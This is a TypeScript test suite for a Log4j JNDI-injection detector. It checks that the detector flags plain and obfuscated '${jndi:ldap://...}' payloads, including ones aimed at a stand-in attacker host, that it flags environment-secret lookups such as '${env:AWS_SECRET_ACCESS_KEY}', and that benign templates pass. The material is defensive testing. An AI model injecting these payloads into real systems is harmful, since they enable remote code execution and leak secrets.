import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectorContext, Finding } from '../../finding.ts';
import { jndiDetector as detector } from './jndi.ts';
import { cpuBestOf } from '../../../../test/helpers/detector-harness.ts';

function run(value: string, ctx: Partial<DetectorContext> = {}): Finding[] {
  const out: Finding[] = [];
  detector.detect(value, { source: 'header', name: 'user-agent', isName: false, paranoia: 3, layers: [], ...ctx }, (f) => out.push(f));
  return out;
}
const bestOf = cpuBestOf;
const pl1 = (fs: Finding[]) => fs.filter((f) => f.paranoia === 1);

const attacks = [
  '${jndi:ldap://attacker.example:1389/Exploit}',
  'Mozilla/5.0 ${jndi:rmi://10.0.0.5/obj}',
  '${JNDI:LDAPS://x.example/a}',
  '${jndi:dns://${env:USER}.x.example}',
  '${jndi:ldap://${hostName}.abc.example/a}',
  '${${lower:j}ndi:ldap://x.example/a}',
  '${${upper:j}${upper:n}${lower:D}${lower:I}:ldap://x.example/a}',
  '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}',
  '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a}',
  '${${sys:nothing:-j}${ctx:x:-n}di:iiop://x.example/a}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
  '${${lower:${upper:j}}ndi:ldap://x.example/a}',
  '$${env:a:-${env:b:-$}{jndi:ldap://x.example/a}}}',
  '${jn${lower:D}i:corba://x.example/a}',
  '${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}',
  '${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}',
  'x=$&lbracejndi:ldap://x.example/a}',
  '${jndi:nis://x.example/a}',
  '${jndi:http://x.example/a}',
];

const pl2 = [
  '${env:AWS_SECRET_ACCESS_KEY}',
  '${sys:java.version}',
  '${ctx:loginId}',
  '${base64:SGVsbG8=}',
  '${lower:X}',
  '${::-x}',
  'jndi:ldap://x.example/a',
];

const benign = [
  'Hello ${name}, your total is ${price}',
  '`Total: ${a * b}`',
  'echo ${HOME:-/tmp} ${PATH}',
  'The JNDI name java:comp/env/jdbc/ds is configured in the container',
  'We patched log4j against jndi lookups last year.',
  '${}',
  '$$$ money ${{}}',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  '}}}${${${',
];

test('JNDI lookups, plain and obfuscated, are found at paranoia 1', () => {
  for (const v of attacks) {
    const fs = pl1(run(v));
    assert.ok(fs.length > 0, `missed: ${v}`);
    for (const f of fs) {
      assert.equal(f.category, 'jndi');
      assert.equal(f.score, 5);
      assert.ok(f.matched.length <= 120);
    }
  }
});

test('other Log4j lookups and a bare JNDI name are paranoia 2', () => {
  for (const v of pl2) {
    const fs = run(v);
    assert.ok(fs.length > 0, `missed: ${v}`);
    assert.deepEqual(pl1(fs), [], `should be paranoia 2: ${v}`);
  }
});

test('benign text with template placeholders gives nothing at paranoia 1', () => {
  for (const v of benign) assert.deepEqual(pl1(run(v)), [], `false positive: ${v}`);
});

test('bounded work on deep nesting and large inputs; never throws', () => {
  const inputs = [
    '${'.repeat(60000),
    '${a:-'.repeat(30000) + 'j' + '}'.repeat(30000),
    '${lower:'.repeat(20000) + 'x' + '}'.repeat(20000),
    'The price is ${price} and the name is ${name}. '.repeat(4500),
    '$$$$}}}}{{{{'.repeat(17000),
    'jndi:'.repeat(40000),
  ];
  for (let i = 0; i < 3000; i++) {
    let s = '';
    for (let j = 0; j < 30; j++) s += '${}:-jndildap/ lower'[Math.floor(Math.random() * 19)] ?? '';
    run(s);
  }
  for (const v of inputs) {
    const ms = bestOf(() => { run(v); });
    assert.ok(ms < 250, `slow ${ms.toFixed(1)} ms on ${v.slice(0, 20)}`);
  }
});
